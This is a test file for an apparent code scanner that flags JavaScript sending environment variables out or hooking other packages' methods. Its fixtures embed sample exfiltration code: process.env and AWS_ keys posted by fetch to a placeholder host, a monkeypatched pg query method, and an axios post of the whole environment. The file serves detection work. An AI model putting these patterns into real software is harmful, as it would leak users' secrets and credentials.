import { describe, expect, it } from 'vitest';
import type { Package } from '../../../src/model/index.js';
import { packageOf } from '../../support/model-builders.js';
import { rulesIn } from '../../support/rules-in.js';

const SEND = "fetch('https://c.example.invalid', { method: 'POST', body: JSON.stringify(taken) })";

describe('functions that nothing is seen to call', () => {
  it.each([
    [
      'behind a getter in an object of others',
      `const tap = (run) => () => { const taken = { ...process.env }; ${SEND}; return run(); };
       Object.defineProperty(require.cache[id].exports, name, { get: () => tap(original) });`,
    ],
    [
      'a method of a class that nothing makes',
      `class Probe { constructor() { this.env = process.env; } report() { const taken = { ...this.env }; ${SEND}; } }`,
    ],
  ])('%s', async (_what, code) => {
    expect(await rulesIn({ 'index.js': code })).toContain('code/environment-sent');
  });
});

describe('functions in the place of one that code is given', () => {
  const wrap = (body: string): string =>
    `exports.guard = () => (next) => async (event, context) => { ${body} };`;
  it('sends what callers give', async () => {
    const code = wrap(
      `const out = await next(event, context); const taken = event.body; await ${SEND}; return out;`,
    );
    expect(await rulesIn({ 'index.js': code })).toContain('code/request-hook');
  });
  it.each([
    `await new Promise((done, fail) => gzip(text, (error, taken) => (error ? fail(error) : done(taken))))`,
    `await new Promise((done, fail) =>
       gzip(text, {},
         function (error, taken) { if (error) fail(error); else done(taken); }))`,
  ])('is no finding where what a function calls back is its own: %s', async (given) => {
    const code = `const { gzip } = require('zlib'); exports.report = async (text) => { const taken = ${given}; ${SEND}; };`;
    expect(await rulesIn({ 'index.js': code })).not.toContain('code/request-hook');
  });
  it('is no finding around a function of its own', async () => {
    const code = `const again = (run) => (event) => run(event); const post = again((taken) => ${SEND}); exports.track = (event) => post(event.body);`;
    expect(await rulesIn({ 'index.js': code })).not.toContain('code/request-hook');
  });
});

describe('packages in a bundle', () => {
  const driver = "var pg=class{query(t){return require('net').connect(5432,this.host).write(t)}};";
  const spy = `function attach(kind){const before=kind.prototype.query;kind.prototype.query=function(taken){${SEND};return before.apply(this,arguments)}}attach(pg);`;
  const bundled = (name: string, length: number): Package =>
    packageOf(name, '8.11.0', {
      presence: 'bundled',
      locations: [{ path: 'index.js', ranges: [[0, length]] }],
    });
  it('a method of another package is replaced', async () => {
    const files = { 'index.js': `${driver}${spy}exports.handler=()=>new pg().query('x');` };
    expect(await rulesIn(files, [bundled('pg', driver.length)])).toContain('code/request-hook');
  });
  it('a method of its own is not somebody else’s', async () => {
    const files = { 'index.js': `${driver}${spy}exports.handler=()=>new pg().query('x');` };
    expect(await rulesIn(files, [bundled('few-know-this', driver.length + spy.length)])).not.toContain(
      'code/request-hook',
    );
  });
  it('a package that many know sends what it is given', async () => {
    const watch =
      'function attach(kind){const before=kind.prototype.query;kind.prototype.query=function(...given){return before.apply(this,given)}}attach(pg);';
    const files = { 'index.js': `${driver}${watch}fetch('https://m.example.invalid');` };
    expect(await rulesIn(files, [bundled('pg', driver.length)])).not.toContain('code/request-hook');
  });
});

describe('bundles whose code takes too many steps', () => {
  // Objects that hold each other by names that code computes take the square of their number.
  const dense = Array.from(
    { length: 60 },
    (_, at) =>
      `function m${at}(a, b) { for (const k in b) { const v = a[k]; a[k] = v && typeof v === 'object' ? m${(at * 7 + 3) % 60}(v, b[k]) : m${(at + 1) % 60}(b, a); } return Object.assign(a, b, { m${at}: a }); }`,
  ).join('\n');
  const theft = `function tell() { const r = process.env; const taken = Object.keys(r).filter(function (t) { return t.indexOf('AWS_') === 0; }).map(function (t) { return t + r[t]; }); return ${SEND}; }`;

  it('are followed around places of interest', async () => {
    const code = `${dense}\n${theft}\nexports.handler = async (event) => { tell(); return m0(m1(event, {}), m2({}, event)); };`;
    expect(await rulesIn({ 'index.js': code })).toContain('code/environment-sent');
  });
});

describe('known packages in bundles', () => {
  const known = 'var ax={post(u,b){return push(u,b,require("https"))}};';
  const bundled = packageOf('axios', '1.7.0', {
    presence: 'bundled',
    locations: [{ path: 'index.js', ranges: [[0, known.length]] }],
  });
  const sendBy = (what: string): string =>
    `${known}exports.handler=async()=>ax.post("https://c.example.invalid/in",${what});`;

  it('are known by their members', async () => {
    const code = sendBy('{e:JSON.stringify(process.env)}');
    expect(await rulesIn({ 'index.js': code }, [bundled])).toContain('code/environment-sent');
  });
});

describe('what known packages of a bundle do', () => {
  const far = '\n'.repeat(700);
  const rulesOf = (sdk: string, code: string, name: string): Promise<string[]> => {
    const known = packageOf(name, '3.1.0', {
      presence: 'bundled',
      locations: [{ path: 'index.js', ranges: [[0, sdk.length]] }],
    });
    return rulesIn({ 'index.js': `${sdk}${far}${code}` }, [known]);
  };

  it('is theirs where they give others what they read', async () => {
    const sdk = 'var read=()=>({...process.env});';
    const code = `const own=(taken)=>${SEND};exports.handler=async()=>own(read());`;
    expect(await rulesOf(sdk, code, 'few-know-this')).toContain('code/environment-sent');
    expect(await rulesOf(sdk, code, 'axios')).not.toContain('code/environment-sent');
  });
  it('is what a rule excepts them for', async () => {
    const sdk = `var keys=()=>{const taken={...process.env};return ${SEND}};`;
    const code = 'exports.handler=async()=>keys();';
    expect(await rulesOf(sdk, code, 'axios')).toContain('code/environment-sent');
    expect(await rulesOf(sdk, code, 'debug')).not.toContain('code/environment-sent');
  });
});

describe('own files of moderate size', () => {
  const filler = Array.from({ length: 900 }, (_, at) => `function f${at}(a) { return a + ${at} * 2; }`).join(
    '\n',
  );
  const far = '\n'.repeat(1_000);
  it('are followed whole', async () => {
    const code = `const read=()=>process.env;${far}function pass(get){const held=get();const later={go:()=>held};return later}${far}function give(later){return later.go()}${far}
      exports.handler=async()=>{const taken={...give(pass(read))};${SEND}};\n${filler}`;
    expect(await rulesIn(code)).toContain('code/environment-sent');
  });
});

describe('functions that call methods of the language', () => {
  it('is no finding: they intercept nobody', async () => {
    const code = `const has = (({ hasOwnProperty }) => (taken, name) => hasOwnProperty.call(taken, name))(Object.prototype);
      exports.post = (taken, name) => has(taken, name) && ${SEND};
      module.exports.has = (({ hasOwnProperty }) => (taken, name) => { ${SEND}; return hasOwnProperty.call(taken, name); })(Object.prototype);`;
    expect(await rulesIn({ 'index.js': code })).not.toContain('code/request-hook');
  });
});
